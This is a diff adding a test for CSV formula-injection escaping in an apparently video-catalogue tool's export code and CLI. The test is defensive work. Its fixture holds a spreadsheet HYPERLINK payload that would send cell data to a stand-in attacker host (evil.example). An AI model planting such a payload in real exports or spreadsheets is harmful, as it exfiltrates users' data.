@@ -52,6 +52,38 @@ describe('structured exports', () => {
     expect(picked[0]).toEqual({ 'Video ID': v.id, 'Start Time (seconds)': '0.000' });
   });
 
+  it('writes text a spreadsheet would run as a formula with a leading quote in CSV, numbers as they are; the CLI flag and key turn it off', async () => {
+    const v = withScenes();
+    v.source.title = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    v.tags = [{ name: '@home', source: 'rule' }];
+    v.scenes[0]!.description = '+1 for this';
+    v.metadata!.rotation = -90;
+    const csv = parse(await exportText([v], 'csv', ['title', 'tags', 'rotation', 'id']), { columns: true });
+    expect(csv[0]).toEqual({ title: `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, tags: "'@home", rotation: '-90', id: v.id });
+    const scenes = parse(await exportText([v], 'scenes-csv', ['Description', 'Start Time (seconds)']), { columns: true });
+    expect(scenes[0]).toEqual({ Description: "'+1 for this", 'Start Time (seconds)': '0.000' });
+    // JSON is not opened by spreadsheets: kept exact
+    expect(JSON.parse((await exportText([v], 'jsonl', ['title'])).trim()).title).toBe(v.source.title);
+    const out = new PassThrough();
+    const chunks: Buffer[] = [];
+    out.on('data', (c: Buffer) => chunks.push(c));
+    await writeRecords(iter([v]), 'csv', out, { fields: ['title'], escapeFormulas: false });
+    expect(parse(Buffer.concat(chunks).toString('utf8'), { columns: true })[0].title).toBe(v.source.title);
+
+    const db = path.join(t.dir, 'formulas.db');
+    const store = new SqliteStore(db);
+    await store.migrate();
+    await store.upsert(v);
+    await store.close();
+    const escaped = await runCli(['export', '--db', db, '--format', 'csv', '--fields', 'title']);
+    expect(escaped.code, escaped.stderr).toBe(0);
+    expect(parse(escaped.stdout, { columns: true })[0].title).toBe(`'${v.source.title}`);
+    const raw = await runCli(['export', '--db', db, '--format', 'csv', '--fields', 'title', '--no-escape-formulas']);
+    expect(parse(raw.stdout, { columns: true })[0].title).toBe(v.source.title);
+    const byEnv = await runCli(['export', '--db', db, '--format', 'csv', '--fields', 'title'], { env: { ...process.env, VIDEODEX_EXPORT_ESCAPEFORMULAS: 'false' } });
+    expect(parse(byEnv.stdout, { columns: true })[0].title).toBe(v.source.title);
+  });
+
   it('picks fields for csv, json and jsonl: flat columns and record paths', async () => {
     const v = withScenes();
     const csv = parse(await exportText([v], 'csv', ['id', 'duration_sec', 'metadata.width', 'tags']), { columns: true });
